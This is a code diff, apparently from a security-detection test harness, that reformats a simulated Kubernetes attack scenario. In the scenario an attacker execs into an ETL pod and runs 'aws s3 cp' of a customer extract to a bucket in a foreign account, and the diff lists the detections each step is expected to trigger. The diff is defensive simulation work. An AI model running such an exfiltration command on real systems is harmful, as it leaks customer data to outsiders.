@@ -904,21 +904,67 @@ export const SCENARIOS: Record<string, ScenarioDefinition> = {
   exfil_foreign_bucket: {
     name: 'exfil_foreign_bucket',
     kind: 'attack',
-    description: "kubectl exec into the ETL pod and `aws s3 cp` of an extract to a bucket of an account we do not own: a large transfer to cloud storage that is not ours.",
+    description:
+      'kubectl exec into the ETL pod and `aws s3 cp` of an extract to a bucket of an account we do not own: a large transfer to cloud storage that is not ours.',
     run(ctx) {
       const etl = batchWorkloads(ctx.world).etl as Workload;
       const t = ctx.attackAt + 25 * MINUTE;
       const pod = ctx.cluster.startPod(etl, t - 2 * MINUTE);
       const bucket = `exfil-drop-${ctx.world.foreignAccount}`;
       ctx.podLifecycle(pod, controller('job-controller'), { stop: t + 20 * MINUTE });
-      ctx.rec.step({ scenario: 'exfil_foreign_bucket', step: 'exec', kind: 'attack', description: 'kubectl exec into the ETL job pod', start: t, workload: ctx.keyOf(pod), actor: ATTACKER.username, expected: ['pod_exec'] }, () => {
-        ctx.rec.addAudit(t, auditRecord(ctx.rng, { time: t, verb: 'create', user: ATTACKER, resource: 'pods', subresource: 'exec', namespace: pod.namespace, name: pod.name, query: `command=sh&container=${pod.container}&stdin=true&stdout=true&tty=true`, sourceIp: '198.51.100.200' }));
-      });
+      ctx.rec.step(
+        {
+          scenario: 'exfil_foreign_bucket',
+          step: 'exec',
+          kind: 'attack',
+          description: 'kubectl exec into the ETL job pod',
+          start: t,
+          workload: ctx.keyOf(pod),
+          actor: ATTACKER.username,
+          expected: ['pod_exec'],
+        },
+        () => {
+          ctx.rec.addAudit(
+            t,
+            auditRecord(ctx.rng, {
+              time: t,
+              verb: 'create',
+              user: ATTACKER,
+              resource: 'pods',
+              subresource: 'exec',
+              namespace: pod.namespace,
+              name: pod.name,
+              query: `command=sh&container=${pod.container}&stdin=true&stdout=true&tty=true`,
+              sourceIp: '198.51.100.200',
+            }),
+          );
+        },
+      );
       const tCopy = t + 3 * MINUTE;
-      ctx.rec.step({ scenario: 'exfil_foreign_bucket', step: 'foreign_bucket_upload', kind: 'attack', description: `aws s3 cp of an extract to s3://${bucket}/ (a bucket of account ${ctx.world.foreignAccount})`, start: tCopy, end: tCopy + 6 * MINUTE, workload: ctx.keyOf(pod), actor: ATTACKER.username, expected: ['cloud_storage_foreign_transfer', 'exec_payload', 'egress_volume_anomaly'] }, () => {
-        ctx.process(pod, tCopy, '/usr/local/bin/aws', `s3 cp /tmp/customers.csv.gz s3://${bucket}/2024/`, { tty: true, durationMs: 6 * MINUTE });
-        ctx.conversation({ start: tCopy, end: tCopy + 6 * MINUTE, src: { pod }, dst: { address: DESTINATIONS.s3.addresses[2], port: 443, service: 'S3' }, bytes: 1_300_000_000, replyBytes: 2_000_000 });
-      });
+      ctx.rec.step(
+        {
+          scenario: 'exfil_foreign_bucket',
+          step: 'foreign_bucket_upload',
+          kind: 'attack',
+          description: `aws s3 cp of an extract to s3://${bucket}/ (a bucket of account ${ctx.world.foreignAccount})`,
+          start: tCopy,
+          end: tCopy + 6 * MINUTE,
+          workload: ctx.keyOf(pod),
+          actor: ATTACKER.username,
+          expected: ['cloud_storage_foreign_transfer', 'exec_payload', 'egress_volume_anomaly'],
+        },
+        () => {
+          ctx.process(pod, tCopy, '/usr/local/bin/aws', `s3 cp /tmp/customers.csv.gz s3://${bucket}/2024/`, { tty: true, durationMs: 6 * MINUTE });
+          ctx.conversation({
+            start: tCopy,
+            end: tCopy + 6 * MINUTE,
+            src: { pod },
+            dst: { address: DESTINATIONS.s3.addresses[2], port: 443, service: 'S3' },
+            bytes: 1_300_000_000,
+            replyBytes: 2_000_000,
+          });
+        },
+      );
     },
   },
   cloud_shares: {
